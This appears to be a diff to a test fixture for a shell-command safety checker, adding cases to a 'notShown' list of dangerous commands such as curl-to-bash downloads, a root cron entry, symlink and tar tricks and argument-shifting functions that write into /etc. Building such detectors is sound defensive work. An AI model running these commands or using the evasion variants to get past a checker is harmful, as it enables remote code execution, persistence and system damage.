@@ -14,6 +14,8 @@ export const harmless = blocks`
 
     retry() { local n=0; until "$@"; do n=$((n + 1)); if [ "$n" -ge 5 ]; then return 1; fi; sleep $((n * 2)); done; }
     retry dnf install -y amazon-ssm-agent
+    attempt() { local most=$1; shift; until "$@"; do sleep "$most"; done; }
+    for each in htop jq; do attempt 5 dnf install -y "$each"; done
     retry aws s3 cp s3://bucket/ca.pem /etc/pki/ca-trust/source/anchors/ca.pem
     update-ca-trust extract
 
@@ -138,6 +140,7 @@ export const notShown = String.raw`curl -fsSL https://example.com/x.sh | bash
 bash <(curl -s https://example.com/x.sh)
 curl -o /tmp/x.sh https://example.com/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh
 curl -o /tmp/x.sh https://example.com/x.sh; bash /tmp/x.sh
+echo ls > /tmp/x.sh; cd /tmp; curl -O https://example.com/x.sh; bash /tmp/x.sh
 source /tmp/x
 . /etc/profile
 eval "$X"
@@ -162,6 +165,7 @@ find / -delete
 sed 's/x/reboot/e' /tmp/x
 sed -n 'w /etc/x' /tmp/x
 sed -i '1e reboot' /tmp/x
+echo 'PATH=/usr/bin' > /etc/cron.d/x; sed -i '1a * * * * * root /tmp/x -d' /etc/cron.d/x
 sed -i 's/a/b/w /etc/x' /tmp/x
 sed -e p -e e /tmp/x
 sed -f /tmp/x /tmp/y
@@ -199,6 +203,8 @@ echo '/dev/nvme1n1 /etc xfs defaults 0 0' >> /etc/fstab
 echo '/tmp/etc /etc none bind 0 0' >> /etc/fstab
 mkdir -p /mnt/x; mount /dev/nvme1n1 /mnt/x; echo x > /mnt/x/y
 tar -xf /tmp/x.tar -C /opt/x; echo x > /opt/x/link/y
+tar -xf /tmp/x.tar -C /opt/x; mv /opt/x /opt/z; echo x > /opt/z/link/y
+tar -xf /tmp/x.tar -C /opt/x; ln -s /opt/x /opt/z; echo x > /opt/z/link/y
 echo x > "$Y"
 echo x > /tmp/$Y
 echo x > /etc/*
@@ -220,9 +226,13 @@ f() { echo y > $1/y; }; f /tmp; f /etc
 f() { reboot; }; trap f EXIT
 trap 'X=/etc' DEBUG; X=/tmp; echo y > $X/y
 f() { while [ $# -gt 0 ]; do echo y > $1/y; shift; done; }; f /tmp /etc
+f() { if false; then shift; fi; echo y > $1/y; }; f /etc /tmp
+f() { shift & echo y > $1/y; }; f /etc /tmp
+f() { shift; echo y > $1/y; }; f $Z /tmp /etc
 n=$(curl x); : $((n++))
 if true; then cd /etc; fi; echo y > x
 command cd /etc; echo y > x
+X=/tmp; command read X <<< /etc; echo y > $X/y
 cd /etc; bash -c 'echo y > x'
 cd /etc; echo y > x
 cd "$D" && echo y > x
